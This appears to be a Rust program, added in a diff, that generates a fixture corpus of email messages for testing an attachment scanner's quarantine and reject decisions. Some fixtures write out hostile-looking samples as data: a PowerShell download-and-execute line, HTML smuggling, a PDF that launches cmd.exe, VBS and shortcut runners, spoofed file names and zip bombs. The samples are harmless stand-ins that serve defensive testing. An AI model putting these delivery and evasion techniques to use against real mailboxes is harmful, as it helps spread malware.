@@ -1,0 +1,217 @@
+//! Writes the golden corpus: `scanner/tests/fixtures/eml/<class>/<NNN-name>.eml`
+//! and beside each its `.expect.toml` (action and categories).
+//!
+//! Run `cargo run -p ecluse-scanner --example make_fixtures` after changing a
+//! sample; the golden test (`tests/golden.rs`) checks every file. A bug
+//! becomes a fixture named after its issue.
+
+mod samples;
+
+use samples::*;
+use std::path::Path;
+
+struct Fixture {
+    class: &'static str,
+    name: &'static str,
+    eml: Vec<u8>,
+    action: &'static str,
+    categories: &'static [&'static str],
+}
+
+fn fx(class: &'static str, name: &'static str, eml: impl Into<Vec<u8>>, action: &'static str, categories: &'static [&'static str]) -> Fixture {
+    Fixture { class, name, eml: eml.into(), action, categories }
+}
+
+const TEXT: &str = "Bonjour,\r\n\r\nVoici le compte rendu de la réunion de jeudi.\r\n\r\nCordialement,\r\nLe secrétariat de mairie";
+
+fn clean() -> Vec<Fixture> {
+    let d = "deliver";
+    let none: &[&str] = &[];
+    let html = "<html><body><p>Bonjour,</p><p>Le <a href=\"https://www.ville-exemple.fr/conseil\">compte rendu</a> est en ligne.</p></body></html>";
+    let forwarded = with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("", &[]));
+    vec![
+        fx("clean", "001-plain-text", message("Réunion", &text_part(TEXT)), d, none),
+        fx("clean", "002-alternative", message("Conseil", &multipart("alternative", "alt1", &[text_part(TEXT), format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")])), d, none),
+        fx("clean", "003-related-inline-image", message("Affiche", &multipart("related", "rel1", &[format!("Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><img src=\"cid:logo\"></body></html>\r\n"), format!("Content-Type: image/png\r\nContent-ID: <logo>\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(&png()))])), d, none),
+        fx("clean", "004-pdf-invoice", with_attachment("Facture F2026-118", "application/pdf", "facture-F2026-118.pdf", &pdf("", &[])), d, none),
+        fx("clean", "005-facturx-invoice", with_attachment("Facture Factur-X", "application/pdf", "facture-facturx.pdf", &pdf_with_embedded("factur-x.xml", FACTURX_XML)), d, none),
+        fx("clean", "006-docx", with_attachment("Compte rendu", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "compte-rendu.docx", &docx("Compte rendu")), d, none),
+        fx("clean", "007-xlsx", with_attachment("Budget", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "budget-2027.xlsx", &xlsx(false)), d, none),
+        fx("clean", "008-zip-of-documents", with_attachment("Pièces du dossier", "application/zip", "dossier.zip", &zip(&[("devis.pdf", &pdf("", &[])), ("notes.txt", b"Notes de la commission")])), d, none),
+        fx("clean", "009-tar-gz", with_attachment("Archives", "application/gzip", "archives.tar.gz", &gzip("archives.tar", &tar(&[("a.txt", b"premier fichier"), ("b.csv", b"nom;montant\r\nA;12\r\n")]))), d, none),
+        fx("clean", "010-7z", with_attachment("Photos", "application/x-7z-compressed", "releve.7z", &sevenz(&[("releve.txt", b"Releve des compteurs")], None)), d, none),
+        fx("clean", "011-forwarded-message", message("Fwd: Facture", &multipart("mixed", "fw1", &[text_part("Pour information."), format!("Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n{forwarded}")])), d, none),
+        fx("clean", "012-rfc2047-accented-name", message("Délibération", &multipart("mixed", "b12", &[text_part(TEXT), format!("Content-Type: application/pdf; name=\"=?UTF-8?Q?D=C3=A9lib=C3=A9ration_n=C2=B012.pdf?=\"\r\nContent-Disposition: attachment; filename=\"=?UTF-8?Q?D=C3=A9lib=C3=A9ration_n=C2=B012.pdf?=\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(&pdf("", &[])))])), d, none),
+        fx("clean", "013-rfc2231-accented-name", message("Arrêté", &multipart("mixed", "b13", &[text_part(TEXT), format!("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=UTF-8''arr%C3%AAt%C3%A9%20municipal.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(&pdf("", &[])))])), d, none),
+        fx("clean", "014-odt", with_attachment("Ordre du jour", "application/vnd.oasis.opendocument.text", "ordre-du-jour.odt", &odt(false)), d, none),
+        fx("clean", "015-jpeg-photo", with_attachment("Photo", "image/jpeg", "photo-chantier.jpg", &jpeg()), d, none),
+        fx("clean", "016-quoted-printable", message("Été", "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nLa f=C3=AAte de l'=C3=A9t=C3=A9 aura lieu samedi.\r\n"), d, none),
+        fx("clean", "017-lf-line-ends", message("Unix", &text_part(TEXT)).replace("\r\n", "\n"), d, none),
+        fx("clean", "018-calendar", message("Invitation", &multipart("mixed", "cal1", &[text_part("Invitation"), "Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\nBEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Conseil\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_string()])), d, none),
+        fx("clean", "019-uuencoded-text", message("Ancien logiciel", &text_part(&format!("Voici le fichier :\r\n\r\n{}", uuencode("liste.txt", b"Liste des participants\r\n")))), d, none),
+        fx("clean", "020-tnef-pdf", with_attachment("Outlook", "application/ms-tnef", "winmail.dat", &tnef(&[("convocation.pdf", &pdf("", &[]))])), d, none),
+        fx("clean", "021-several-attachments", message("Dossier", &multipart("mixed", "b21", &[text_part(TEXT), attachment("application/pdf", "a.pdf", &pdf("", &[])), attachment("application/pdf", "b.pdf", &pdf("", &[])), attachment("text/csv", "liste.csv", b"nom;prenom\r\nDupont;Marie\r\n")])), d, none),
+        fx("clean", "022-gzip-text", with_attachment("Journal", "application/gzip", "journal.txt.gz", &gzip("journal.txt", b"ligne 1\nligne 2\n")), d, none),
+        fx("clean", "023-html-body", message("Lettre", &format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")), d, none),
+        fx("clean", "024-svg-logo", with_attachment("Logo", "image/svg+xml", "logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="blue"/></svg>"#), d, none),
+        fx("clean", "025-doc-without-macros", with_attachment("Ancien format", "application/msword", "courrier.doc", &ole_doc_clean()), d, none),
+        fx("clean", "026-preamble-note", format!("{}Content-Type: multipart/mixed; boundary=\"p1\"\r\n\r\nThis is a multi-part message in MIME format.\r\n--p1\r\n{}\r\n--p1--\r\n", headers("Note"), text_part(TEXT)), d, none),
+    ]
+}
+
+fn mime() -> Vec<Fixture> {
+    let q = "quarantine";
+    let amb: &[&str] = &["mime_ambiguity"];
+    let pdfb = b64(&pdf("", &[]));
+    let h = |s: &str| headers(s);
+    vec![
+        fx("mime", "030-duplicate-content-type", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\nContent-Type: text/plain\r\n\r\n--a\r\n{}\r\n--a--\r\n", h("dup ct"), text_part(TEXT)), q, amb),
+        fx("mime", "031-duplicate-boundary", format!("{}Content-Type: multipart/mixed; boundary=\"a\"; boundary=\"b\"\r\n\r\n--a\r\n{}\r\n--a--\r\n", h("dup boundary"), text_part(TEXT)), q, amb),
+        fx("mime", "032-duplicate-cte", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{pdfb}\r\n--a--\r\n", h("dup cte")), q, &["mime_ambiguity", "type_mismatch"]),
+        fx("mime", "033-name-vs-filename", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"facture.pdf\"\r\nContent-Disposition: attachment; filename=\"rapport.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n", h("name vs filename")), q, amb),
+        fx("mime", "034-rfc2231-conflict", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"facture.pdf\"; filename*=UTF-8''facture.html\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n", h("2231 conflict")), q, amb),
+        fx("mime", "035-missing-final-boundary", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\n{}\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}", h("no end"), text_part(TEXT)), q, amb),
+        fx("mime", "036-preamble-hidden-part", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\nContent-Type: text/html\r\n\r\n<p>hidden</p>\r\n--a\r\n{}\r\n--a--\r\n", h("preamble"), text_part(TEXT)), q, amb),
+        fx("mime", "037-epilogue-hidden-data", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\n{}\r\n--a--\r\n{}", h("epilogue"), text_part(TEXT), b64(&[0x5a; 600])), q, amb),
+        fx("mime", "038-base64-garbage", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBER*i0xLjcK!!\r\n--a--\r\n", h("garbage")), q, amb),
+        fx("mime", "039-bare-cr", format!("{}Content-Type: text/plain\r\n\r\nligne 1\rligne 2\r\n", h("bare cr")), q, amb),
+        fx("mime", "040-bare-lf-in-crlf", format!("{}Content-Type: text/plain\r\n\r\nligne 1\nligne 2\r\n", h("bare lf")), q, amb),
+        fx("mime", "041-nul-in-header", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\0.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n", h("nul")), q, &["executable", "mime_ambiguity", "type_mismatch"]),
+        fx("mime", "042-message-partial", format!("{}Content-Type: message/partial; id=\"abc@x\"; number=1; total=2\r\n\r\nFrom: x@y\r\nSubject: part\r\n\r\nhalf a message\r\n", h("partial")), q, amb),
+        fx("mime", "043-unknown-transfer-encoding", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\nContent-Transfer-Encoding: base64x\r\n\r\n{pdfb}\r\n--a--\r\n", h("cte")), q, &["mime_ambiguity", "type_mismatch"]),
+        fx("mime", "044-nested-boundary-prefix", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: multipart/alternative; boundary=\"a1\"\r\n\r\n--a1\r\n{}\r\n--a1--\r\n\r\n--a--\r\n", h("prefix"), text_part(TEXT)), q, amb),
+        fx("mime", "045-multipart-without-boundary", format!("{}Content-Type: multipart/mixed\r\n\r\n--x\r\n{}\r\n--x--\r\n", h("no boundary"), text_part(TEXT)), q, amb),
+        fx("mime", "046-duplicate-filename", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"facture.pdf\"; filename=\"facture.pdf.html\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n", h("dup filename")), q, amb),
+        fx("mime", "047-rfc2231-gap", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*0=\"fact\"; filename*2=\"ure.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{pdfb}\r\n--a--\r\n", h("2231 gap")), q, amb),
+        fx("mime", "048-base64-after-padding", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\nContent-Type: application/octet-stream; name=\"data.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJD\r\nRA==TVqQAAMAAAAEAAAA\r\n--a--\r\n", h("after padding")), q, amb),
+    ]
+}
+
+fn risky() -> Vec<Fixture> {
+    let q = "quarantine";
+    vec![
+        fx("sniff", "050-exe", with_attachment("Mise à jour", "application/octet-stream", "miseajour.exe", &pe()), q, &["executable"]),
+        fx("sniff", "051-exe-named-pdf", with_attachment("Facture", "application/pdf", "facture.pdf", &pe()), q, &["executable", "type_mismatch"]),
+        fx("sniff", "052-elf", with_attachment("Outil", "application/octet-stream", "outil.bin", &elf()), q, &["executable"]),
+        fx("sniff", "053-msi", with_attachment("Installeur", "application/x-msi", "installeur.msi", &msi()), q, &["executable"]),
+        fx("sniff", "054-js", with_attachment("Facture", "application/javascript", "facture.js", b"var d = new Date(); var total = 12 + 30;"), q, &["script"]),
+        fx("sniff", "055-vbs-runner", with_attachment("Scan", "text/plain", "scan.vbs", b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n"), q, &["script"]),
+        fx("sniff", "056-hta", with_attachment("Document", "application/hta", "document.hta", b"<html><head><HTA:APPLICATION ID=\"x\"></head><body>x</body></html>"), q, &["script"]),
+        fx("sniff", "057-ps1", with_attachment("Outil", "text/plain", "outil.ps1", b"Write-Host 'bonjour'"), q, &["script"]),
+        fx("sniff", "058-bat", with_attachment("Installer", "text/plain", "installer.bat", b"@echo off\r\necho bonjour\r\n"), q, &["script"]),
+        fx("sniff", "059-lnk-powershell", with_attachment("Document", "application/octet-stream", "document.lnk", &lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden")), q, &["shortcut"]),
+        fx("sniff", "060-iso", with_attachment("Commande", "application/octet-stream", "commande.iso", &iso()), q, &["disk_image"]),
+        fx("sniff", "061-vhdx", with_attachment("Sauvegarde", "application/octet-stream", "sauvegarde.vhdx", &vhdx()), q, &["disk_image"]),
+        fx("sniff", "062-onenote", with_attachment("Notes", "application/onenote", "notes.one", &onenote()), q, &["onenote"]),
+        fx("sniff", "063-doc-with-vba", with_attachment("Courrier", "application/msword", "courrier.doc", &ole_doc_with_macros()), q, &["macro"]),
+        fx("sniff", "064-docm", with_attachment("Formulaire", "application/vnd.ms-word.document.macroEnabled.12", "formulaire.docm", &docm("Formulaire")), q, &["macro"]),
+        fx("sniff", "065-docm-renamed-docx", with_attachment("Facture", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "facture.docx", &docm("Facture")), q, &["macro", "type_mismatch"]),
+        fx("sniff", "066-xlsm", with_attachment("Budget", "application/vnd.ms-excel.sheet.macroEnabled.12", "budget.xlsm", &xlsx(true)), q, &["macro"]),
+        fx("sniff", "067-odt-basic-macro", with_attachment("Ordre du jour", "application/vnd.oasis.opendocument.text", "ordre.odt", &odt(true)), q, &["macro"]),
+        fx("sniff", "068-html-smuggling", with_attachment("Document partagé", "text/html", "document.html", format!("<html><body><script>var d = atob('{}'); var b = new Blob([d], {{type: 'application/zip'}}); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'facture.zip'; a.click();</script></body></html>", base64_plain(b"PK\x03\x04 fake zip")).as_bytes()), q, &["html_smuggling"]),
+        fx("sniff", "069-svg-script", with_attachment("Plan", "image/svg+xml", "plan.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><script>location.href='https://example.invalid/'</script></svg>"#), q, &["active_content"]),
+        fx("sniff", "070-pdf-openaction-js", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n".into()])), q, &["active_content"]),
+        fx("sniff", "071-pdf-obfuscated-js", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n".into()])), q, &["active_content"]),
+        fx("sniff", "072-pdf-launch", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf("/OpenAction 5 0 R", &["5 0 obj\n<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>\nendobj\n".into()])), q, &["active_content"]),
+        fx("sniff", "073-chm", with_attachment("Aide", "application/octet-stream", "aide.chm", &chm()), q, &["executable"]),
+        fx("sniff", "074-jar", with_attachment("Application", "application/java-archive", "application.jar", &jar()), q, &["executable"]),
+        fx("sniff", "075-double-extension", with_attachment("Facture", "application/octet-stream", "facture.pdf.exe", &pe()), q, &["executable", "double_extension"]),
+        fx("sniff", "076-bidi-name", with_attachment("Facture", "application/octet-stream", "facture\u{202e}fdp.exe", &pe()), q, &["executable", "bidi_name"]),
+        fx("sniff", "077-powershell-in-txt", with_attachment("Notes", "text/plain", "notes.txt", b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.invalid/a')"), q, &["script"]),
+        fx("sniff", "078-zip-named-pdf", with_attachment("Facture", "application/pdf", "facture.pdf", &zip(&[("facture.txt", b"texte")])), q, &["type_mismatch"]),
+        fx("sniff", "079-reg", with_attachment("Réglages", "text/plain", "reglages.reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n"), q, &["script"]),
+        fx("sniff", "080-padded-double-extension", with_attachment("Photo", "application/octet-stream", "photo.jpg        .scr", &pe()), q, &["executable", "double_extension"]),
+    ]
+}
+
+fn base64_plain(data: &[u8]) -> String {
+    use base64::Engine as _;
+    base64::engine::general_purpose::STANDARD.encode(data)
+}
+
+fn archives() -> Vec<Fixture> {
+    let q = "quarantine";
+    let inner_docm = docm("Facture");
+    vec![
+        fx("archive", "085-encrypted-zip", with_attachment("Confidentiel", "application/zip", "confidentiel.zip", &zip_flagged_encrypted(&[("facture.pdf", &pdf("", &[]))])), q, &["encrypted_archive"]),
+        fx("archive", "086-rar", with_attachment("Archive", "application/vnd.rar", "archive.rar", &rar()), q, &["unscannable_archive"]),
+        fx("archive", "087-encrypted-7z", with_attachment("Confidentiel", "application/x-7z-compressed", "confidentiel.7z", &sevenz(&[("facture.pdf", &pdf("", &[]))], Some("infected"))), q, &["encrypted_archive"]),
+        fx("archive", "088-zip-with-js", with_attachment("Facture", "application/zip", "facture.zip", &zip(&[("facture.js", b"var x = 1;")])), q, &["script"]),
+        fx("archive", "089-tgz-with-exe", with_attachment("Outils", "application/gzip", "outils.tgz", &gzip("outils.tar", &tar(&[("bin/outil.exe", &pe())]))), q, &["executable"]),
+        fx("archive", "090-zip-in-zip-docm", with_attachment("Dossier", "application/zip", "dossier.zip", &zip(&[("sous-dossier.zip", &zip(&[("formulaire.docm", &inner_docm)]))])), q, &["macro"]),
+        fx("archive", "091-tnef-with-exe", with_attachment("Outlook", "application/ms-tnef", "winmail.dat", &tnef(&[("setup.exe", &pe())])), q, &["executable"]),
+        fx("archive", "092-damaged-zip", with_attachment("Dossier", "application/zip", "dossier.zip", &{ let mut z = zip(&[("a.txt", b"bonjour tout le monde")]); let cut = z.windows(4).position(|w| w == b"PK\x01\x02").unwrap(); z.truncate(cut); z }), q, &["unscannable_archive"]),
+        fx("archive", "093-pdf-embedded-exe", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf_with_embedded("payload.exe", &pe())), q, &["executable"]),
+        fx("archive", "094-uuencoded-exe", message("Fichier", &text_part(&format!("Le programme :\r\n\r\n{}", uuencode("programme.exe", &pe())))), q, &["executable"]),
+        fx("archive", "095-cab", with_attachment("Pilote", "application/vnd.ms-cab-compressed", "pilote.cab", &cab()), q, &["unscannable_archive"]),
+        fx("archive", "096-iso-in-zip", with_attachment("Commande", "application/zip", "commande.zip", &zip(&[("commande.iso", &iso())])), q, &["disk_image"]),
+        fx("archive", "097-lnk-in-zip", with_attachment("Scan", "application/zip", "scan.zip", &zip(&[("scan.pdf.lnk", &lnk("cmd.exe /c start calc"))])), q, &["shortcut", "double_extension"]),
+    ]
+}
+
+fn malware() -> Vec<Fixture> {
+    let r = "reject";
+    let e = eicar();
+    let eicar_msg = with_attachment("EICAR", "text/plain", "eicar.txt", &e);
+    vec![
+        fx("malware", "100-eicar", eicar_msg.clone(), r, &["malware"]),
+        fx("malware", "101-eicar-zip-in-zip", with_attachment("Dossier", "application/zip", "dossier.zip", &zip(&[("inner.zip", &zip(&[("eicar.txt", &e)]))])), r, &["malware"]),
+        fx("malware", "102-eicar-in-forwarded-message", message("Fwd: EICAR", &multipart("mixed", "fw2", &[text_part("Transféré"), format!("Content-Type: message/rfc822\r\n\r\n{eicar_msg}")])), r, &["malware"]),
+        fx("malware", "103-eicar-in-7z", with_attachment("Archive", "application/x-7z-compressed", "archive.7z", &sevenz(&[("eicar.txt", &e)], None)), r, &["malware"]),
+        fx("malware", "104-eicar-in-gzip", with_attachment("Archive", "application/gzip", "eicar.txt.gz", &gzip("eicar.txt", &e)), r, &["malware"]),
+        fx("malware", "105-eicar-uuencoded", message("uu", &text_part(&format!("Fichier :\r\n{}", uuencode("eicar.txt", &e)))), r, &["malware"]),
+        fx("malware", "106-eicar-in-tnef", with_attachment("Outlook", "application/ms-tnef", "winmail.dat", &tnef(&[("eicar.txt", &e)])), r, &["malware"]),
+        fx("malware", "107-eicar-in-epilogue", format!("{}Content-Type: multipart/mixed; boundary=\"a\"\r\n\r\n--a\r\n{}\r\n--a--\r\nContent-Type: text/plain\r\n\r\n{}\r\n", headers("epilogue"), text_part(TEXT), String::from_utf8(e.clone()).unwrap()), r, &["malware", "mime_ambiguity"]),
+        fx("malware", "108-eicar-in-pdf-embedded", with_attachment("Facture", "application/pdf", "facture.pdf", &pdf_with_embedded("eicar.txt", &e)), r, &["malware"]),
+        fx("malware", "109-eicar-base64-nested-deep", {
+            // Encoded nested messages five levels deep: deeper than mail-parser's own limit.
+            let mut m = eicar_msg.clone();
+            for i in 0..5 {
+                m = message(&format!("Fwd {i}"), &multipart("mixed", &format!("deep{i}"), &[text_part("Transféré"), format!("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", b64(m.as_bytes()))]));
+            }
+            m
+        }, r, &["malware"]),
+    ]
+}
+
+fn budget() -> Vec<Fixture> {
+    let q = "quarantine";
+    let zeros = vec![0u8; 20 << 20];
+    let mut nested = zip(&[("fond.txt", b"le fond")]);
+    for i in 0..8 {
+        let name = format!("niveau{i}.zip");
+        nested = zip(&[(&name, &nested)]);
+    }
+    // A 42.zip in miniature: every level holds 16 copies of the level below.
+    let leaf = zip(&[("zeros.bin", &vec![0u8; 4 << 20])]);
+    let mut level = leaf;
+    for _ in 0..3 {
+        let names: Vec<String> = (0..16).map(|i| format!("{i:x}.zip")).collect();
+        let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), level.as_slice())).collect();
+        level = zip(&entries);
+    }
+    vec![
+        fx("budget", "110-zip-bomb-ratio", with_attachment("Archive", "application/zip", "archive.zip", &zip(&[("zeros.bin", &zeros)])), q, &["budget_exceeded"]),
+        fx("budget", "111-nested-too-deep", with_attachment("Archive", "application/zip", "poupees.zip", &nested), q, &["budget_exceeded"]),
+        fx("budget", "112-recursive-bomb", with_attachment("Archive", "application/zip", "42.zip", &level), q, &["budget_exceeded"]),
+    ]
+}
+
+fn main() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eml");
+    let _ = std::fs::remove_dir_all(&root);
+    let all: Vec<Fixture> =
+        [clean(), mime(), risky(), archives(), malware(), budget()].into_iter().flatten().collect();
+    for f in &all {
+        let dir = root.join(f.class);
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join(format!("{}.eml", f.name)), &f.eml).unwrap();
+        let cats: Vec<String> = f.categories.iter().map(|c| format!("\"{c}\"")).collect();
+        std::fs::write(
+            dir.join(format!("{}.expect.toml", f.name)),
+            format!("action = \"{}\"\ncategories = [{}]\n", f.action, cats.join(", ")),
+        )
+        .unwrap();
+    }
+    println!("wrote {} fixtures under {}", all.len(), root.display());
+}
